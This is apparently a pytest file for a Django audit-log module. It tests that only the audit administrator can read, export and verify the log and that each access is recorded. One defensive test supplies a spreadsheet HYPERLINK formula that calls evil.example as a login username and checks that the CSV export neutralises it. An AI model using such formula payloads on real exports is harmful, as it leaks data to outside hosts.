"""Only the audit administrator reads and exports the log, and that is audited too (AUD-06, AC-06)."""

from __future__ import annotations

import pytest


def test_the_auditor_reads_the_log_and_the_read_is_audited(world, client_for, audit_rows) -> None:
    client = client_for("wu_auditor")
    client_for("zhang_township").get("/households/")
    response = client.get("/audit/")
    assert response.status_code == 200
    assert len(audit_rows("AUDIT_QUERIED", actor_username="wu_auditor")) == 1


def test_the_auditor_exports_csv_with_a_bom_and_the_export_is_audited(world, client_for, audit_rows) -> None:
    response = client_for("wu_auditor").post("/audit/export/", {"event_type": "", "purpose": "supervision"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response.content.startswith("\ufeff".encode())
    assert len(audit_rows("AUDIT_EXPORTED", actor_username="wu_auditor")) == 1


def test_the_auditor_can_verify_the_chain_from_the_page(world, client_for) -> None:
    response = client_for("wu_auditor").post("/audit/verify/")
    assert "哈希链完整" in response.content.decode()


@pytest.mark.parametrize(
    "persona", ["sun_sysadmin", "zhou_secadmin", "zhang_township", "wang_county", "chen_analyst"]
)
def test_nobody_else_reads_the_audit_log(world, client_for, persona: str) -> None:
    client = client_for(persona)
    assert client.get("/audit/").status_code == 403
    assert client.post("/audit/export/").status_code == 403


def test_export_needs_post(world, client_for) -> None:
    assert client_for("wu_auditor").get("/audit/export/").status_code == 405


def test_a_formula_typed_as_a_user_name_is_inert_in_the_audit_export(world, client_for) -> None:
    """Formula injection (issue #14.4): anyone can put text in the log by failing a login."""
    import csv
    import io

    from django.test import Client

    hostile = '=HYPERLINK("http://evil.example/?u="&D2,"x")'
    Client().post("/login/", {"username": hostile, "password": "wrong"})
    text = (
        client_for("wu_auditor")
        .post("/audit/export/", {"event_type": "LOGIN_FAILED", "purpose": "supervision"})
        .content.decode("utf-8-sig")
    )
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][2] == "'" + hostile and rows[1][0].isdigit()
